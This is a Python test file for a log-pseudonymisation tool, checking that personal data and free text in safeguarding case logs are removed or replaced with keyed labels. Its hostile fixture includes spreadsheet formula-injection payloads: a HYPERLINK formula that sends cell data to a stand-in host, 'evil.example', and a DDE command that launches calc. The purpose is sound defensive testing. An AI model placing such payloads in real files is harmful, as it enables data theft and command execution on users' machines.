"""Pseudonymisation keeps its promise (conformance/pseudonymise.py): only the contract's columns
go through, free text and formulas in activity and role cells are replaced by keyed labels,
timestamps can be coarsened, personal data is recognised by names and values in any column,
and every statement the command makes about what it copied is checked against the file."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from conformance.check import read_options
from conformance.logio import read_log
from conformance.logio.personal import name_reason, value_reason
from conformance.pseudonymise import (
    PseudonymiseSummary,
    Rounding,
    pseudonym,
    pseudonymise,
    write_csv,
)
from model.procedure import load_procedure

KEY = bytes(range(32))
PROCEDURE = load_procedure()
ROLES = [*PROCEDURE.roles, *(r.name for r in PROCEDURE.roles.values())]

HOSTILE = [
    # case id column: NHS numbers (valid check digits)
    ("943 476 5919", "Concern identified", "2024-06-03T09:10:11", "Ann Worker",
     "employee", "Sarah Jones", "NE1 4XX", "Called Sarah Jones (mother) on 07700 900123"),
    ("943 476 5919", "Called Sarah Jones (mother) on 07700 900123", "2024-06-03T10:20:30",
     "Ann Worker", "Sarah's mum", "Sarah Jones", "NE1 4XX", "sj@example.org"),
    ("401 023 2137", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "2024-06-04T11:59:59",
     "=cmd|' /C calc'!A0", "@SUM(1+1)", "Tom Smith", "NE46 1AA", "+44 7700 900456"),
    ("401 023 2137", "Case closed", "2024-06-05", "-2+3", "manager", "Tom Smith", "NE46 1AA", ""),
]
COLUMNS = ["NHS number", "activity", "timestamp", "resource", "role", "Child's name", "postcode",
           "notes"]
SECRETS = ["943 476 5919", "9434765919", "401 023 2137", "Sarah", "Jones", "07700", "NE1 4XX",
           "NE46", "Tom Smith", "Ann Worker", "HYPERLINK", "evil.example", "calc", "@SUM",
           "example.org", "mum", "-2+3"]


def _write(path: Path, rows: list[tuple[str, ...]], columns: list[str]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(columns)
        writer.writerows(rows)
    return path


def _run(tmp_path: Path, rows: list[tuple[str, ...]] = HOSTILE, columns: list[str] = COLUMNS,
         round_to: Rounding | None = None, case_column: str = "NHS number"
         ) -> tuple[Path, Path, PseudonymiseSummary, list[str]]:
    from conformance.check import LogFormat

    source = _write(tmp_path / "log.csv", rows, columns)
    options = read_options(PROCEDURE, LogFormat(case_column=case_column))
    log = read_log(source, options)
    frame, summary = pseudonymise(log, KEY, activities=options.vocabulary, roles=ROLES,
                                  round_to=round_to)
    out = tmp_path / "out.csv"
    write_csv(frame, out)
    return source, out, summary, summary.statements(str(source), str(out))


def _check_every_statement(source: Path, out: Path, summary: PseudonymiseSummary,
                           lines: list[str]) -> None:
    """Each claim the summary makes is true of the files; each printed line says a claim."""
    given = pd.read_csv(source, dtype=str, keep_default_na=False)
    written = pd.read_csv(out, dtype=str, keep_default_na=False)
    text = out.read_text(encoding="utf-8")
    assert lines[0].startswith(f"Pseudonymised {summary.cases:,} case")
    assert written["case_id"].nunique() == summary.cases and len(written) == summary.events
    for fate in summary.columns:
        values = {v for v in given[fate.source] if len(v) >= 3} if fate.source in given else set()
        if fate.output is None:
            assert any(f"the column '{fate.source}'" in line for line in lines)
            leaked = {v for v in values if v in text}
            assert not leaked, f"{fate.source} said left out, but {leaked} are in the output"
            continue
        assert any(line.startswith(f"  - {fate.output}, from the column '{fate.source}': "
                                   f"{fate.treatment}.") for line in lines)
        column = written[fate.output]
        if "keyed pseudonyms" in fate.treatment:
            kind = "c" if fate.output == "case_id" else "r"
            assert column[column != ""].str.fullmatch(rf"{kind}-[0-9a-f]{{16}}").all()
            assert not {v for v in values if v in text}
        elif fate.output in ("activity", "role"):
            labels = column[column.str.fullmatch(r"(act|role)-[0-9a-f]{16}")]
            kept = set(column[column != ""]) - set(labels)
            assert kept <= set(ROLES) | set(PROCEDURE.activities)
            replaced = (summary.replaced_activities if fate.output == "activity"
                        else summary.replaced_roles)
            assert labels.value_counts().to_dict() == dict(replaced)
            for label, n in list(replaced.items())[:20]:
                assert f"{label} ({n:,} event" in "\n".join(lines)
        elif fate.output == "timestamp":
            if summary.round_to == "day":
                assert "the date alone" in fate.treatment
                assert column.str.fullmatch(r"\d{4}-\d{2}-\d{2}").all()
            elif summary.round_to == "hour":
                assert "rounded down to the hour" in fate.treatment
                times = column[column.str.len() > 10]
                assert times.str.fullmatch(r"\S{10}T\d{2}:00:00[+-]\d{2}:00").all()
            else:
                assert "to the second as in the input" in fate.treatment
        else:
            assert fate.treatment == "copied as true, false or empty"
            assert set(column) <= {"true", "false", ""}
        if fate.personal:
            assert f"It looked like personal data ({fate.personal})" in "\n".join(lines)
    assert not re.search(r"(^|,)[=+\-@]", text, flags=re.MULTILINE)


def test_hostile_log_nothing_identifying_in_the_output(tmp_path: Path) -> None:
    source, out, summary, lines = _run(tmp_path)
    text = out.read_text(encoding="utf-8")
    for secret in SECRETS:
        assert secret not in text, secret
    _check_every_statement(source, out, summary, lines)
    fates = {f.source: f for f in summary.columns}
    assert fates["NHS number"].output == "case_id"
    assert "NHS numbers" in (fates["NHS number"].personal or "")
    assert fates["Child's name"].output is None and fates["Child's name"].personal
    assert fates["postcode"].output is None and fates["notes"].output is None
    assert fates["notes"].personal is not None  # e-mail addresses and phone numbers
    # the free-text activity and the formula are replaced by labels, each listed
    assert sum(summary.replaced_activities.values()) == 2
    assert pseudonym(KEY, "act", "Called Sarah Jones (mother) on 07700 900123") in text
    assert sum(summary.replaced_roles.values()) == 2  # "Sarah's mum" and "@SUM(1+1)"
    assert "employee" in text and "manager" in text  # the procedure's roles stay


def test_the_header_row_names_only_the_contract_columns(tmp_path: Path) -> None:
    _, out, _, _ = _run(tmp_path)
    header = out.read_text(encoding="utf-8").splitlines()[0].split(",")
    assert header[:5] == ["case_id", "activity", "timestamp", "resource", "role"]
    # the procedure's case attributes: the yes/no ones and the categorical offence (v2)
    assert set(header[5:]) <= set(PROCEDURE.attributes)


@pytest.mark.parametrize("round_to", ["hour", "day"])
def test_timestamps_can_be_coarsened_and_the_summary_says_so(
        tmp_path: Path, round_to: Rounding) -> None:
    source, out, summary, lines = _run(tmp_path, round_to=round_to)
    _check_every_statement(source, out, summary, lines)
    stamps = pd.read_csv(out, dtype=str)["timestamp"].tolist()
    if round_to == "hour":
        assert "2024-06-03T09:00:00+01:00" in stamps and "2024-06-04T11:00:00+01:00" in stamps
        assert "2024-06-05" in stamps  # a date-only event stays a date
    else:
        assert sorted(set(stamps)) == ["2024-06-03", "2024-06-04", "2024-06-05"]
    again = read_log(out)
    assert again.events["date_only"].all() == (round_to == "day")


def test_the_same_key_gives_the_same_output_and_labels(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    _, first, _, _ = _run(tmp_path / "a")
    _, second, _, _ = _run(tmp_path / "b")
    assert first.read_bytes() == second.read_bytes()


def test_a_clean_log_keeps_every_activity_and_says_nothing_is_left_out(tmp_path: Path) -> None:
    rows = [("A1", "Concern identified", "2024-06-03T09:00:00", "", "employee", "true"),
            ("A1", "Case closed", "2024-06-04T09:00:00", "", "", "true")]
    source, out, summary, lines = _run(
        tmp_path, rows, ["case_id", "activity", "timestamp", "resource", "role",
                         "alleged_is_child"], case_column="case_id")
    _check_every_statement(source, out, summary, lines)
    assert summary.replaced_activities == {} and summary.left_out == ()
    assert not any(line.startswith("Left out") for line in lines)
    assert set(pd.read_csv(out, dtype=str)["activity"]) == {"Concern identified", "Case closed"}


@pytest.mark.parametrize(
    "header",
    ["name", "Forename", "Surname", "Child's name", "child_name", "DOB", "Date of birth",
     "NHS number", "NHS_No", "UPN", "Postcode", "Address", "Email", "E-mail address", "Phone",
     "Mobile", "Telephone number"],
)
def test_personal_data_is_recognised_by_header(header: str) -> None:
    assert name_reason(header) is not None


@pytest.mark.parametrize(
    "header",
    ["case_id", "activity", "timestamp", "resource", "role", "alleged_is_child", "team",
     "Named worker team", "lifecycle:transition", "org:resource"],
)
def test_ordinary_headers_are_not_personal_data(header: str) -> None:
    assert name_reason(header) is None


@pytest.mark.parametrize(
    ("values", "kind"),
    [
        (["943 476 5919", "9434765919", "401-023-2137"], "NHS numbers"),
        (["NE1 4XX", "ne46 1aa", "SW1A 1AA"], "postcodes"),
        (["07700 900123", "+44 7700 900456", "0191 123 4567"], "phone numbers"),
        (["someone@example.org", "", ""], "e-mail"),
        (["Rang 07700 900123 twice", "Strategy discussion held"], "phone numbers"),
        (["Home visit, NE1 4XX", "Case closed"], "postcodes"),
        (["Ref 943 476 5919 on file", "Case closed"], "NHS numbers"),
    ],
)
def test_personal_data_is_recognised_by_value(values: list[str], kind: str) -> None:
    reason = value_reason(pd.Series(values, dtype="str"))
    assert reason is not None and kind in reason


@pytest.mark.parametrize(
    "values",
    [["Strategy discussion held", "Section 47 enquiry started", "Case closed"],
     ["2024-06-03T09:10:11", "2024-06-03", "2024-06-03 09:10:11+01:00"],
     ["CASE-0001", "CASE-0002", "W1"], ["1234567890", "1234567891"],  # invalid NHS digits
     ["true", "false", ""]],
)
def test_ordinary_values_are_not_personal_data(values: list[str]) -> None:
    assert value_reason(pd.Series(values, dtype="str")) is None
